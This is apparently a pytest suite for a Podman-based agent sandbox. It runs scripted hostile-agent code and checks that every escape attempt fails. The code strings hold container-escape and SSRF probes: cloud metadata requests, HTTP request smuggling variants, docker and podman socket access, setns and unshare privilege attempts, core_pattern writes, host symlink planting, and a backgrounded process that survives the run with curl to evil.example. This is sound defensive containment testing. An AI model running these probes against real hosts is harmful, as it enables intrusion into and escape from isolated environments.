"""A hostile agent in a real container through the whole service: nothing of what it tries gets out or at the host."""

from __future__ import annotations

import asyncio
import os
import secrets
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import pytest_asyncio

from orchestrator.scripted import ScriptedProvider
from tests.orchestrator.relay.proxied import Target
from tests.podman.hostile import attack, audited, results, script, watched
from tests.podman.live import STARTED, LiveService, eventually, live_service, podman
from tests.podman.shared import module_provider as module_provider  # noqa: PLC0414 -- fixtures
from tests.podman.shared import provider as provider  # noqa: PLC0414

pytestmark = [pytest.mark.podman, pytest.mark.asyncio(loop_scope="module")]

NOWHERE = {"ENETUNREACH", "EHOSTUNREACH", "EPERM", "EACCES", "EADDRNOTAVAIL", "EAFNOSUPPORT"}
"""What the kernel says when there is no way."""
DOCUMENTATION = "192.0.2.53"


@dataclass
class Site:
    """A service, a server that its runs may reach, and one that they may not."""

    service: LiveService
    allowed: Target
    forbidden: Target
    hosts: Path

    def names(self, *lines: str) -> None:
        """What the proxy's resolver answers from now on."""
        self.hosts.write_text("\n".join(["127.0.0.1 good.example", *lines, ""]))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def module_site(
    tmp_path_factory: pytest.TempPathFactory, module_provider: ScriptedProvider
) -> AsyncIterator[Site]:
    root = tmp_path_factory.mktemp("site")
    hosts = root / "hosts"
    async with watched() as allowed, watched() as forbidden:
        # Names below inside.example may be asked for at any of the ports; that alone must not open an address.
        rules = [
            f"good.example:{allowed.port}",
            f"127.0.0.1:{allowed.port}",
            "*.inside.example",
            f"*.inside.example:{forbidden.port}",
            f"*.inside.example:{allowed.port}",
        ]
        async with live_service(
            root, module_provider.base_url, backend={"allowed_egress": rules}, egress={"hosts_file": str(hosts)}
        ) as service:
            yield Site(service, allowed, forbidden, hosts)


@pytest.fixture
def site(module_site: Site) -> Site:
    """The module's site as it was in the beginning; the log of its service is shown with this test when it fails."""
    module_site.names()
    for server in (module_site.allowed, module_site.forbidden):
        server.connections = 0
        server.received.clear()
    if module_site.service not in STARTED:
        STARTED.append(module_site.service)
    return module_site


def reached_from_here(address: str | tuple[str, int]) -> None:
    """What the agent could not reach is there to be reached: else its failure would mean nothing."""
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(10)
        sock.connect(address)


async def counted_from_here(server: Target) -> None:
    """The same of a server that counts what reaches it: and that it counts."""
    reached_from_here(("127.0.0.1", server.port))
    await eventually(lambda: server.connections == 1)


DIRECT = """
def tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(address)
def udp(family, address, data=b"x"):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(data, address)
        return sock.recv(512)
QUERY = bytes.fromhex("123401000001000000000000" "04676f6f64076578616d706c65000001" "0001")
attempt("tcp")(lambda: tcp(socket.AF_INET, (DOC, 443)))
attempt("tcp6")(lambda: tcp(socket.AF_INET6, ("2001:db8::1", 443)))
attempt("udp")(lambda: udp(socket.AF_INET, (DOC, 9)))
attempt("udp6")(lambda: udp(socket.AF_INET6, ("2001:db8::1", 9)))
attempt("dns udp")(lambda: udp(socket.AF_INET, (DOC, 53), QUERY))
attempt("dns tcp")(lambda: tcp(socket.AF_INET, (DOC, 53)))
attempt("dns over tls")(lambda: tcp(socket.AF_INET, (DOC, 853)))
attempt("broadcast")(lambda: udp(socket.AF_INET, ("255.255.255.255", 9)))
attempt("multicast")(lambda: udp(socket.AF_INET, ("224.0.0.251", 5353)))
attempt("metadata")(lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
attempt("metadata6")(lambda: tcp(socket.AF_INET6, ("fd00:ec2::254", 80)))
attempt("host by slirp")(lambda: tcp(socket.AF_INET, ("10.0.2.2", forbidden)))
attempt("host loopback")(lambda: tcp(socket.AF_INET, ("127.0.0.1", forbidden)))
attempt("host loopback6")(lambda: tcp(socket.AF_INET6, ("::1", forbidden)))
attempt("mapped")(lambda: tcp(socket.AF_INET6, ("::ffff:192.0.2.53", 443)))
attempt("resolver")(lambda: socket.getaddrinfo("good.example", 80))
attempt("host name")(lambda: socket.create_connection(("host.containers.internal", forbidden), 5))
attempt("icmp raw")(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw")(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt("crypto")(lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0))
attempt("packet")(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
@attempt("icmp")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.sendto(b"\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x00", (DOC, 0))
@attempt("icmp6")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as sock:
        sock.sendto(b"\\x80\\x00\\x00\\x00\\x00\\x00\\x00\\x00", ("2001:db8::1", 0, 0, 0))
@attempt("vsock")
def _():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect((1, 9))  # this machine itself
@attempt("route")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        import fcntl
        fcntl.ioctl(sock, 0x8914, struct.pack("16sH14x", b"lo", 0x1043))
out["interfaces"] = " ".join(sorted(os.listdir("/sys/class/net")))
out["routes"] = open("/proc/net/route").read().count("\\n")
out["resolvers"] = open("/etc/resolv.conf").read() if os.path.exists("/etc/resolv.conf") else ""
"""


async def test_nothing_but_loopback_is_there_to_be_talked_to(site: Site) -> None:
    found = await attack(site.service, DIRECT, DOC=DOCUMENTATION, forbidden=site.forbidden.port)
    assert found.pop("interfaces") == "lo"
    assert found.pop("routes") <= 1  # type: ignore[operator]  # the heading
    found.pop("resolvers")
    assert found.pop("vsock") == "ENOSYS", "a way past the network namespace, to the hypervisor of this machine"
    assert found.pop("host loopback") == "ECONNREFUSED", "its own loopback, where nobody listens"
    assert found.pop("host loopback6") in NOWHERE | {"ECONNREFUSED"}
    for name in ("resolver", "host name"):
        assert not found.pop(name).startswith("ok")
    for name in ("packet", "crypto"):
        assert found.pop(name) == "ENOSYS", name
    wrong = {name: outcome for name, outcome in found.items() if outcome not in NOWHERE}
    assert wrong == {}
    assert site.forbidden.connections == 0
    await counted_from_here(site.forbidden)


BY_PROXY = """
for target in targets:
    out[target] = connect(target)
for url in urls:
    host = url.split("/")[2]
    out[url] = first_line(f"GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
"""


async def test_the_proxy_leads_nowhere_but_to_what_is_allowed(site: Site) -> None:
    port, forbidden = site.allowed.port, site.forbidden.port
    site.names(
        "127.0.0.1 loop.inside.example",
        "::1 loop6.inside.example",
        "169.254.169.254 meta.inside.example",
        "10.0.0.1 ten.inside.example",
        "::ffff:127.0.0.1 mapped.inside.example",
        "64:ff9b::7f00:1 nat.inside.example",
        "2002:7f00:1:: six.inside.example",
        "0.0.0.0 zero.inside.example",
        "fe80::1 link.inside.example",
        "fd00:ec2::254 meta6.inside.example",
        "100.100.100.200 cgnat.inside.example",
        "224.0.0.1 multi.inside.example",
    )
    names = ("loop", "loop6", "meta", "ten", "mapped", "nat", "six", "zero", "link", "meta6", "cgnat", "multi")
    targets = [
        *(f"{name}.inside.example:{forbidden}" for name in names),
        f"127.0.0.1:{forbidden}",
        f"127.1:{forbidden}",
        f"0x7f000001:{forbidden}",
        f"2130706433:{forbidden}",
        f"0177.0.0.1:{forbidden}",
        f"[::1]:{forbidden}",
        f"[::ffff:127.0.0.1]:{forbidden}",
        f"[::]:{forbidden}",
        f"0.0.0.0:{forbidden}",
        f"localhost:{forbidden}",
        f"good.example:{forbidden}",
        f"127.0.0.1:{port - 1 or 1}",
        f"good.example.:{forbidden}",
        f"sub.good.example:{port}",
        f"{DOCUMENTATION}:443",
        f"{DOCUMENTATION}:53",
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "evil.example:443",
        f"inside.example:{forbidden}",
    ]
    urls = [
        "http://169.254.169.254/latest/meta-data/",
        f"http://127.0.0.1:{forbidden}/",
        f"http://loop.inside.example:{forbidden}/",
        "http://meta.inside.example/latest/",
    ]
    run = await site.service.submit(script(BY_PROXY, targets=[*targets, f"good.example:{port}"], urls=urls))
    found = results(await site.service.finished(run["run_id"]))
    assert " 200 " in found.pop(f"good.example:{port}"), "the attempts themselves must have worked"
    assert len(found) == len(targets) + len(urls)
    wrong = {target: answer for target, answer in found.items() if not answer.startswith("HTTP/1.1 403 podmentor: ")}
    assert wrong == {}
    assert site.forbidden.connections == 0
    await counted_from_here(site.forbidden)
    reported = {
        event["data"]["host"]
        for event in await site.service.all_events(run["run_id"])
        if event["data"].get("phase") == "egress_denied"
    }
    assert {"loop.inside.example", "meta.inside.example", "169.254.169.254", "evil.example", "127.1"} <= reported
    assert reported <= {line["host"] for line in audited(site.service.state, "egress.denied", run["run_id"])}


async def test_a_name_that_changes_its_mind_is_not_followed(site: Site) -> None:
    """DNS rebinding: a good address and an internal one, at once and one after the other."""
    port = site.allowed.port
    target = f"turn.inside.example:{port}"
    ask = "out['answer'] = connect(target)"
    site.names("127.0.0.1 turn.inside.example")
    assert " 200 " in (await attack(site.service, ask, target=target))["answer"], "a rule names this address and port"
    for addresses in (["127.0.0.2"], ["127.0.0.2", "10.0.0.1"], ["::1"]):
        site.names(*(f"{address} turn.inside.example" for address in addresses))
        found = await attack(site.service, ask, target=target)
        assert found["answer"].startswith(f"HTTP/1.1 403 podmentor: {target} denied: its name leads to a ")


SMUGGLED = """
hidden = f"GET http://loop.inside.example:{forbidden}/smuggled HTTP/1.1\\r\\nHost: loop.inside.example:{forbidden}\\r\\n\\r\\n"
good = f"http://good.example:{port}/outer"
host = f"Host: good.example:{port}\\r\\n"
chunked = f"{len(hidden):x}\\r\\n{hidden}\\r\\n0\\r\\n\\r\\n"
heads = {
    "pipelined": f"GET {good} HTTP/1.1\\r\\n{host}\\r\\n{hidden}",
    "length and chunked": f"POST {good} HTTP/1.1\\r\\n{host}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}",
    "two lengths": f"POST {good} HTTP/1.1\\r\\n{host}Content-Length: 0\\r\\nContent-Length: {len(hidden)}\\r\\n\\r\\n{hidden}",
    "odd coding": f"POST {good} HTTP/1.1\\r\\n{host}Transfer-Encoding: xchunked\\r\\n\\r\\n{chunked}",
    "coding with tab": f"POST {good} HTTP/1.1\\r\\n{host}Transfer-Encoding:\\x0bchunked\\r\\n\\r\\n{chunked}",
    "space before colon": f"POST {good} HTTP/1.1\\r\\n{host}Content-Length : 0\\r\\n\\r\\n{hidden}",
    "folded": f"GET {good} HTTP/1.1\\r\\n{host}X: a\\r\\n Host: loop.inside.example\\r\\n\\r\\n",
    "bare line feed": f"GET {good} HTTP/1.1\\n{host}\\r\\n{hidden}",
    "line feed in a value": f"GET {good} HTTP/1.1\\r\\n{host}X: a\\nHost: loop.inside.example\\r\\n\\r\\n",
    "carriage return": f"GET {good} HTTP/1.1\\r\\n{host}X: a\\rHost: loop.inside.example\\r\\n\\r\\n",
    "other host": f"GET {good} HTTP/1.1\\r\\nHost: loop.inside.example:{forbidden}\\r\\n\\r\\n",
    "two hosts": f"GET {good} HTTP/1.1\\r\\n{host}Host: loop.inside.example:{forbidden}\\r\\n\\r\\n",
    "user info": f"GET http://good.example:{port}@loop.inside.example:{forbidden}/ HTTP/1.1\\r\\n{host}\\r\\n",
    "fragment": f"GET http://loop.inside.example:{forbidden}#@good.example:{port}/ HTTP/1.1\\r\\n{host}\\r\\n",
    "backslash": f"GET http://good.example:{port}\\\\@loop.inside.example:{forbidden}/ HTTP/1.1\\r\\n{host}\\r\\n",
    "split target": f"GET {good} HTTP/1.1\\r\\nX: {hidden}",
    "nul": f"CONNECT loop.inside.example\\0.good.example:{port} HTTP/1.1\\r\\n\\r\\n",
    "http2": "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
    "socks5": "\\x05\\x01\\x00\\n",
    "socks4": "\\x04\\x01\\x00\\x50\\x7f\\x00\\x00\\x01\\x00\\n",
    "huge": "GET " + "x" * 70000,
    "upgrade": f"GET {good} HTTP/1.1\\r\\n{host}Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\\r\\n{hidden}",
}
for name, head in heads.items():
    out[name] = said(head.encode("latin-1")).partition("\\r\\n")[0]
"""


async def test_no_second_request_hides_in_the_first(site: Site) -> None:
    site.names("127.0.0.1 loop.inside.example")
    port, forbidden = site.allowed.port, site.forbidden.port
    found = await attack(site.service, SMUGGLED, port=port, forbidden=forbidden)
    assert site.forbidden.connections == 0
    passed = {name for name, answer in found.items() if answer.startswith("HTTP/1.1 200 ")}
    assert passed == {"pipelined", "upgrade"}, "one request of each is good, what stands behind it is dropped"
    refused = {name: answer for name, answer in found.items() if name not in passed}
    assert {answer[:12] for answer in refused.values()} <= {
        "HTTP/1.1 400",
        "HTTP/1.1 403",
        "HTTP/1.1 431",
        "HTTP/1.1 505",
    }
    sent = b"".join(site.allowed.received)
    assert sent.count(b" HTTP/1.1\r\n") == len(passed)
    assert b"smuggled" not in sent
    assert b"upgrade" not in sent.lower()


SOCKETS = """
import stat as st
seen = []
for root, dirs, files in os.walk("/", onerror=lambda error: None):
    if root in ("/proc", "/sys"):
        dirs.clear()
        continue
    for name in files:
        path = os.path.join(root, name)
        try:
            if st.S_ISSOCK(os.lstat(path).st_mode):
                seen.append(path)
        except OSError:
            pass
out["sockets"] = " ".join(sorted(seen))
def unix(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(path)
for path in paths:
    attempt(path)(lambda: unix(path))
attempt("abstract")(lambda: unix("\\0" + abstract))
out["unix"] = " ".join(line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if "/" in line or "@" in line)
attempt("write control")(lambda: open("/run/podmentor/x", "w"))
attempt("replace socket")(lambda: os.unlink("/run/podmentor/egress.sock"))
attempt("chmod socket")(lambda: os.chmod("/run/podmentor/egress.sock", 0o777))
attempt("socket there")(lambda: socket.socket(socket.AF_UNIX).bind("/run/podmentor/mine.sock"))
"""


async def test_no_socket_of_the_host_or_of_another_run_is_in_reach(site: Site, provider: ScriptedProvider) -> None:
    other = await site.service.submit("scenario: hang")
    await provider.reached("hang", timeout=60)
    theirs = site.service.runtime / other["run_id"]
    assert (theirs / "egress.sock").is_socket()
    uid = os.getuid()
    abstract = f"podmentor-test-{secrets.token_hex(8)}"
    paths = [
        str(theirs / "egress.sock"),
        str(theirs / "gateway.sock"),
        str(site.service.runtime / "api.sock"),
        *map(str, site.service.runtime.glob("*.sock")),
        f"/run/podmentor/../{other['run_id']}/egress.sock",
        "/run/podman/podman.sock",
        f"/run/user/{uid}/podman/podman.sock",
        "/var/run/docker.sock",
        "/run/dbus/system_bus_socket",
        f"/run/user/{uid}/bus",
    ]
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as listener:
        listener.bind("\0" + abstract)
        listener.listen()
        reached_from_here("\0" + abstract)
        listener.accept()[0].close()
        ours = (str(site.service.runtime), f"/run/user/{uid}/podman/")
        there = [path for path in paths if path.startswith(ours) and Path(path).is_socket()]
        assert {Path(path).name for path in there} >= {"egress.sock", "gateway.sock", "api.sock"}
        assert any(path.endswith("podman.sock") for path in there), "the socket of a Podman service"
        for path in there:
            reached_from_here(path)
        found = await attack(site.service, SOCKETS, paths=paths, abstract=abstract)
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    await site.service.call("POST", f"/v1/runs/{other['run_id']}/cancel")
    await site.service.finished(other["run_id"])
    assert found.pop("sockets") == "/run/podmentor/egress.sock /run/podmentor/gateway.sock"
    assert abstract not in found["unix"]
    assert other["run_id"] not in found.pop("unix")
    assert found.pop("abstract") == "ECONNREFUSED"
    for name in ("write control", "replace socket", "chmod socket", "socket there"):
        assert found.pop(name) in {"EROFS", "EACCES", "EPERM"}, name
    assert set(found.values()) == {"ENOENT"}, found


PRIVILEGES = """
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
for name in ("Uid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
    out[name] = " ".join(status[name].split())
attempt("setuid")(lambda: os.setuid(0))
attempt("setgid")(lambda: os.setgid(0))
attempt("setgroups")(lambda: os.setgroups([0]))
attempt("chroot")(lambda: os.chroot("/tmp"))
attempt("mount tmpfs")(lambda: checked(libc.mount(b"x", b"/mnt", b"tmpfs", 0, None)))
attempt("mount proc")(lambda: checked(libc.mount(b"proc", b"/tmp", b"proc", 0, None)))
attempt("remount root")(lambda: checked(libc.mount(None, b"/", None, 32, None)))
attempt("umount")(lambda: checked(libc.umount2(b"/run/podmentor", 2)))
attempt("mknod")(lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
attempt("mknod char")(lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)))
attempt("hostname")(lambda: socket.sethostname("evil"))
attempt("nice")(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
attempt("reboot")(lambda: checked(libc.reboot(0x89abcdef - (1 << 32))))
attempt("swapon")(lambda: checked(libc.swapon(b"/tmp/x", 0)))
attempt("other netns")(lambda: checked(libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0x40000000)))
attempt("other userns")(lambda: checked(libc.setns(os.open("/proc/1/ns/user", os.O_RDONLY), 0x10000000)))
attempt("settime")(lambda: __import__("time").clock_settime(0, 0))
SYSCALLS = {"x86_64": {"bpf": 321, "perf_event_open": 298, "kexec_load": 246, "init_module": 175, "open_by_handle_at": 304,
                       "quotactl": 179, "acct": 163, "ioperm": 173, "iopl": 172, "syslog": 103, "lookup_dcookie": 212,
                       "userfaultfd": 323}}
for name, number in SYSCALLS.get(os.uname().machine, {}).items():
    attempt("syscall " + name)(lambda: checked(libc.syscall(number, 0, 0, 0, 0, 0)))
setuid = subprocess.run(["find", "/", "-xdev", "-perm", "/6000", "-type", "f"], capture_output=True, text=True).stdout.split()
for path in setuid:
    found = subprocess.run([path, "--help"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=20)
out["as root"] = subprocess.run(["su", "-c", "id -u", "root"], capture_output=True, text=True, stdin=subprocess.DEVNULL).stdout.strip() \\
    if os.path.exists("/usr/bin/su") else ""
# In a user namespace of its own it is root of nothing but that.
NESTED = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
uid = os.getuid()
print("unshare", libc.unshare(0x10000000 | 0x00020000 | 0x40000000), flush=True)
for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"), ("/proc/self/gid_map", f"0 {os.getgid()} 1")):
    try:
        open(path, "w").write(text)
    except OSError:
        pass
print("rw root", libc.mount(None, b"/", None, 32 | 4096, None))
print("rw control", libc.mount(None, b"/run/podmentor", None, 32 | 4096, None))
for path in ("/etc/evil", "/run/podmentor/evil", "/usr/bin/evil"):
    try:
        open(path, "w").close()
        print("WROTE", path)
    except OSError as error:
        pass
for path, text in (("/proc/sys/kernel/core_pattern", "|/tmp/evil"), ("/proc/sysrq-trigger", "h"), ("/proc/sys/vm/overcommit_memory", "1")):
    try:
        open(path, "w").write(text)
        print("WROTE", path)
    except OSError as error:
        pass
try:
    import socket
    socket.create_connection(("192.0.2.53", 443), 5)
    print("WROTE network")
except OSError:
    pass
'''
nested = subprocess.run([sys.executable, "-c", NESTED], capture_output=True, text=True, timeout=60)
out["nested"] = nested.stdout
"""


async def test_no_privilege_is_to_be_had(site: Site) -> None:
    found = await attack(site.service, PRIVILEGES)
    assert found.pop("Uid") == "1000 1000 1000 1000"
    for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(found.pop(name), 16) == 0, name
    assert (found.pop("NoNewPrivs"), found.pop("Seccomp")) == ("1", "2")
    assert found.pop("as root") == ""
    nested = found.pop("nested")
    assert "WROTE" not in nested
    assert nested.startswith("unshare -1\n"), "a user namespace of its own, in which it would be root"
    wrong = {name: outcome for name, outcome in found.items() if outcome.startswith("ok")}
    assert wrong == {}
    assert set(found.values()) <= {
        "EPERM",
        "EACCES",
        "ENOSYS",
        "EINVAL",
        "ENOENT",
        "EBADF",
        "EFAULT",
        "EROFS",
        "EBUSY",
    }, found


KERNEL = """
pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
out["pids"] = len(pids)
out["commands"] = " ".join(open(f"/proc/{pid}/cmdline").read().replace("\\0", " ") for pid in pids if os.path.exists(f"/proc/{pid}/cmdline"))
def ptrace(pid):
    checked(libc.ptrace(16, pid, None, None))
    libc.ptrace(17, pid, None, None)
for pid in host_pids:
    attempt(f"ptrace {pid}")(lambda: ptrace(pid))
    attempt(f"kill {pid}")(lambda: os.kill(pid, 0))
    attempt(f"read {pid}")(lambda: open(f"/proc/{pid}/environ").read())
def write(path, text):
    with open(path, "w") as file:
        file.write(text)
for path, text in {
    "/proc/sys/kernel/core_pattern": "|/tmp/evil", "/proc/sys/kernel/modprobe": "/tmp/evil", "/proc/sysrq-trigger": "h",
    "/proc/sys/vm/overcommit_memory": "1", "/proc/sys/net/ipv4/ip_forward": "1", "/proc/1/oom_score_adj": "-1000",
    "/sys/kernel/uevent_helper": "/tmp/evil", "/sys/fs/cgroup/cgroup.procs": "1", "/sys/fs/cgroup/release_agent": "/tmp/evil",
    "/sys/fs/cgroup/memory.max": "max", "/sys/power/state": "mem", "/sys/block/x": "x", "/dev/mem": "x", "/dev/kmsg": "x",
    "/dev/sda": "x", "/proc/kcore": "x", "/sys/module/x": "x", "/proc/self/attr/current": "x",
}.items():
    attempt(path)(lambda: write(path, text))
for path in ("/proc/kcore", "/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/sys/firmware/dmi/tables/DMI", "/dev/mem", "/dev/kmsg"):
    def head():
        with open(path, "rb") as file:
            data = file.read(4096)
        return bool(data.strip(b"\\0 \\n")) and not all(line.startswith(b"0000000000000000") for line in data.splitlines()[:20])
    attempt("read " + path)(head)
out["devices"] = " ".join(sorted(os.listdir("/dev")))
"""


async def test_the_kernels_files_and_other_processes_are_out_of_reach(site: Site) -> None:
    # Numbers that are processes on the host and, being high, none in the container's own namespace.
    pids = sorted({os.getpid(), site.service.pid} - set(range(300)))
    found = await attack(site.service, KERNEL, host_pids=pids)
    assert int(found.pop("pids")) < 40
    commands = found.pop("commands")
    assert "serve" not in commands.split()
    assert "orchestrator.relay" not in commands
    devices = set(found.pop("devices").split())
    assert devices <= {
        "console",
        "core",
        "fd",
        "full",
        "mqueue",
        "null",
        "ptmx",
        "pts",
        "random",
        "shm",
        "stderr",
        "stdin",
        "stdout",
        "tty",
        "urandom",
        "zero",
    }
    for pid in pids:
        assert found.pop(f"ptrace {pid}") in {"ESRCH", "EPERM"}
        assert found.pop(f"kill {pid}") == "ESRCH"
        assert found.pop(f"read {pid}") == "ENOENT"
    for name in [name for name in found if name.startswith("read ")]:
        assert found.pop(name) in {"ok: False", "EACCES", "EPERM", "ENOENT", "EIO"}, name
    wrong = {name: outcome for name, outcome in found.items() if outcome.startswith("ok")}
    assert wrong == {}


WRITING = """
places = sorted({"/", *(f"/{name}" for name in os.listdir("/")), "/etc/cron.d", "/etc/profile.d", "/usr/bin", "/usr/local/bin",
                 "/var/lib", "/var/tmp", "/run/podmentor", "/run/lock", "/root", "/home", "/opt", "/boot", "/lib", "/sys/fs/cgroup"})
wrote = []
for place in places:
    try:
        path = os.path.join(place, "podmentor-probe")
        with open(path, "x") as file:
            file.write("x")
        os.unlink(path)
        wrote.append(place)
    except OSError:
        pass
out["wrote"] = " ".join(wrote)
for path in ("/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/usr/local/bin/podmentor-entry", "/run/podmentor/prompt", "/run/.containerenv"):
    attempt(path)(lambda: open(path, "a").write("x"))
"""


async def test_it_writes_to_workspace_home_and_tmp_only(site: Site) -> None:
    found = await attack(site.service, WRITING)
    assert found.pop("wrote") == "/tmp /workspace"
    allowed = {"EROFS", "EACCES", "EPERM", "ENOENT"}
    assert set(found.values()) <= allowed, found


PLANTED = """
for where in ("/workspace", "/home/agent"):
    for name, target in {"link": canary, "dir-link": os.path.dirname(canary), "up": "../../../../../../" + canary, "etc": "/etc",
                         "proc": "/proc/self/root", "self": "self", "run": "/run/podmentor"}.items():
        attempt(f"{where} {name}")(lambda: os.symlink(target, f"{where}/{name}"))
    attempt(f"{where} fifo")(lambda: os.mkfifo(f"{where}/fifo"))
    attempt(f"{where} socket")(lambda: socket.socket(socket.AF_UNIX).bind(f"{where}/socket"))
    attempt(f"{where} newline")(lambda: open(f"{where}/a\\nb\\x1b[2J", "w").write("x"))
    attempt(f"{where} deep")(lambda: os.makedirs(f"{where}/" + "/".join(["d" * 100] * 30)))
    attempt(f"{where} shut")(lambda: (os.makedirs(f"{where}/shut/inner"), os.chmod(f"{where}/shut", 0)))
    attempt(f"{where} setuid")(lambda: (open(f"{where}/suid", "w").write("x"), os.chmod(f"{where}/suid", 0o6755)))
os.remove("/workspace/kept.txt")
os.symlink(canary, "/workspace/kept.txt")
os.remove("/workspace/folder/inner.txt")
os.rmdir("/workspace/folder")
os.symlink(os.path.dirname(canary), "/workspace/folder")
attempt("control")(lambda: os.symlink(canary, "/run/podmentor/gateway.sock2"))
"""


async def test_links_that_it_plants_lead_the_host_nowhere(site: Site, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    canary = outside / "canary.txt"
    canary.write_text("the canary's secret\n")
    repo = tmp_path / "repo"
    (repo / "folder").mkdir(parents=True)
    (repo / "folder" / "inner.txt").write_text("inner\n")
    (repo / "kept.txt").write_text("kept\n")
    before = sorted((path.name, path.lstat().st_mtime_ns) for path in outside.rglob("*"))
    run = await site.service.submit(script(PLANTED, canary=str(canary)), repo=str(repo))
    found = results(await site.service.finished(run["run_id"]))
    assert found["control"] == "EROFS"
    assert found["/workspace link"].startswith("ok"), "the links must have been planted"
    subagent = run["subagent_id"]
    # A following run finds them in place; its own container must not follow them outwards either.
    read = "for name in ('link', 'up', 'kept.txt', 'folder/canary.txt'): attempt(name)(lambda: open('/workspace/' + name).read())"
    again = await attack(site.service, read, submit={"subagent_id": subagent})
    assert set(again.values()) == {"ENOENT"}
    changes = await site.service.call("GET", f"/v1/subagents/{subagent}/changes")
    assert "kept.txt" in {change["path"] for change in changes["changes"]}
    assert site.service._session is not None
    async with site.service._session.get(f"/v1/subagents/{subagent}/changes.patch") as response:
        patch = await response.read()
    assert b"canary's secret" not in patch
    await site.service.call("DELETE", f"/v1/subagents/{subagent}")
    assert not (site.service.state / "subagents" / subagent).exists()
    assert canary.read_text() == "the canary's secret\n"
    assert sorted((path.name, path.lstat().st_mtime_ns) for path in outside.rglob("*")) == before
    assert (repo / "kept.txt").read_text() == "kept\n"


async def test_after_all_that_nothing_is_left(site: Site) -> None:
    double_fork = (
        "scenario: dump\nRUN: (setsid sh -c 'trap \"\" TERM INT HUP; sleep 1000' >/dev/null 2>&1 &) ; "
        "curl -sS http://evil.example/ >/dev/null; echo left"
    )
    run = await site.service.submit(double_fork)
    await site.service.finished(run["run_id"])
    assert run["run_id"] not in await podman("ps", "--all", "--no-trunc", "--format", "{{.Labels}}")
    assert not (site.service.runtime / run["run_id"]).exists()
    audit = await asyncio.to_thread(audited, site.service.state, "egress.denied", run["run_id"])
    assert [(line["host"], line["port"]) for line in audit] == [("evil.example", 80)]
